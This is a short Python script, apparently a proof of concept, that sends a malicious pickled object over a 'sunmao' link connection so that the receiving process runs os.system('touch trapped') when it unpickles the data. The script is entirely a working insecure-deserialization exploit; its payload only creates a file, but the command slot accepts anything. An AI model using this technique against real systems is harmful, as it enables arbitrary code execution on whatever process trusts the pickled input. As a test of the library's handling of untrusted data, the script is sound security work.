import os
import pickle
import time

from sunmao import link


class Trap:
    def __reduce__(self):
        return os.system, ('touch trapped',)


link._link.outbox._wire._connection.send_bytes(pickle.dumps(Trap()))
time.sleep(3600)
